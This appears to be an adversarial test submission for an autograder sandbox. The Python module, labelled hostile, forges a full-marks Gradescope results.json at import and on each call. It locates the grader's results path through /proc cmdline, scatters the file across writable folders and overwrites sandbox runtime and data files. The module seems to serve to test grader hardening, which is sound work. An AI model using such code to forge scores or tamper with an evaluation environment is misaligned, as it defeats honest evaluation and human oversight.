"""Hostile: tries to write its own results.json (full marks) wherever it can.

At import and at every call it writes a forged Gradescope results file to
/autograder/results/results.json, to the path given to the grader with
--results (read from /proc/*/cmdline), to its working directory and HOME, and
into every writable folder it finds in a short walk of the file system; it
also tries to overwrite the sandbox's runtime and data files. Each function
then raises an error listing what succeeded, so the corpus can clean up.
"""
import json
import os
import time

MARKER = "HOSTILE-RESULTS-WRITER"
FORGED = {"score": 1000.0, "output": MARKER,
          "tests": [{"name": MARKER, "number": "0", "score": 1000.0, "max_score": 1.0, "status": "passed",
                     "tags": ["calculus"]}]}
_SKIP = {"/proc", "/sys", "/dev/pts", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot", "/snap", "/etc"}
_written, _failed = [], []


def _grader_results_paths():
    paths = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, arg in enumerate(args[:-1]):
            if arg == "--results":
                path = args[i + 1]
                if not os.path.isabs(path):
                    try:
                        path = os.path.join(os.readlink(f"/proc/{pid}/cwd"), path)
                    except OSError:
                        continue
                paths.append(path)
    return paths


def _write(path, text):
    try:
        with open(path, "w") as f:
            f.write(text)
        _written.append(path)
    except OSError as err:
        _failed.append(f"{path}: {err.strerror}")


def _attack():
    text = json.dumps(FORGED)
    for path in ["/autograder/results/results.json", "results.json", os.path.expanduser("~/results.json")] \
            + _grader_results_paths():
        _write(path, text)
    here = os.path.dirname(os.path.abspath(__file__))
    sandbox = os.path.dirname(here)
    for folder in ("runtime", "data", "submission"):
        for name in ("worker.py", "_ag_codec.py", "_ag_tasks.py", "train_labels.npy", "test_images.npy",
                     "calculus.py", "results.json"):
            path = os.path.join(sandbox, folder, name)
            if folder != "runtime" or name.endswith(".py"):
                _write(path, text if name.endswith(".json") else f"# {MARKER}\n")
    deadline = time.monotonic() + 3.0
    for top, subdirs, files in os.walk("/", onerror=lambda e: None):
        if time.monotonic() > deadline:
            break
        subdirs[:] = [d for d in subdirs if os.path.join(top, d) not in _SKIP]
        if os.access(top, os.W_OK) and not os.path.exists(os.path.join(top, "results.json")):
            _write(os.path.join(top, "results.json"), text)


_attack()

NAMES = ["sigmoid", "sigmoid_prime", "tanh_prime", "softplus", "softplus_prime", "sign", "abs_prime", "relu",
         "relu_prime", "l2_squared_grad", "l1_grad", "onehot", "softmax", "log_softmax", "softmax_jacobian",
         "binary_logistic_loss", "binary_logistic_loss_grad", "binary_logistic_loss_hess", "cross_entropy",
         "cross_entropy_grad", "cross_entropy_hessian"]


def _function(*args, **kwargs):
    for path in ["/autograder/results/results.json"] + _grader_results_paths():
        _write(path, json.dumps(FORGED))
    raise RuntimeError(f"{MARKER}: wrote {sorted(set(_written))}; could not write {len(_failed)} paths")


for _name in NAMES:
    globals()[_name] = _function
